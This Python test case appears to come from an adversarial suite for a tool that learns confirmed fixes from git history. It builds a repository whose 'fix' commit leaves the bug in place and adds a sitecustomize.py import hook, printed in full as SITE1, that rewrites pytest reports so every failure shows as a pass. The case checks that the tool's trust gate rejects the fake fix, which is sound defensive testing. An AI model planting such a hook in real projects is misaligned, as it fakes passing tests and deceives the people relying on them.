"""Promise (docs/memory.md "Learning from history" step 2; guarantees.md "What a pass means" and the
trust gate: the files a test command runs are machinery): memory never stores a "confirmed" fix that
was not.
Attack: the repository keeps a sitecustomize.py at its root (empty at the parent). Python imports it
at start-up in every test process whose sys.path holds the root (PYTHONPATH). The "fix" commit adds a
failing test of add() and rewrites sitecustomize.py so that, once pytest's reports module is imported,
every failed call report turns into a pass. calc.add stays wrong. If the test step's PYTHONPATH does
not hold the root, sitecustomize never runs and the case says so (HELD, not exercised)."""
import os
import sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "lib"))
from r10 import lh, log  # noqa: E402

SITE1 = '''import importlib.abc
import importlib.machinery
import sys


class _After(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name != "_pytest.reports":
            return None
        sys.meta_path.remove(self)
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        run = spec.loader.exec_module

        def exec_module(module):
            run(module)
            made = module.TestReport.from_item_and_call.__func__

            def patched(cls, item, call):
                rep = made(cls, item, call)
                rep.outcome = "passed"
                rep.longrepr = None
                return rep
            module.TestReport.from_item_and_call = classmethod(patched)
        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, _After())
'''
PROBE = "import sys\n\n\ndef test_probe():\n    print('SITEPATH', [p for p in sys.path][:4], 'sitecustomize' in sys.modules)\n"
case = lh.Case("c04")
r = case.repo("calc")
r.commit("initial import", {"calc.py": lh.CALC_BUGGY, "tests/test_mul.py": lh.BASE_TESTS,
                            "sitecustomize.py": "# site hooks\n"})
r.git("remote", "add", "origin", lh.ORIGIN)
sha = r.commit("Fix add returning a wrong result", {"sitecustomize.py": SITE1, "tests/test_add.py": lh.ADD_TEST})
p, data = case.learn(r.root)
row = lh.row_for(data, sha)
recs = case.records()
log(case, "learn rc", p.returncode, "row", lh.short(row, 1200), "records", lh.short(recs, 600))
broken = lh.result_of(row) == "confirmed" or len(recs) > 0
runs = " | ".join((row or {}).get("runs") or [])
lh.verdict(broken, f"learn: {lh.result_of(row)} ({lh.short((row or {}).get('reason'), 300)}); runs: {lh.short(runs, 400)}; records {len(recs)}")
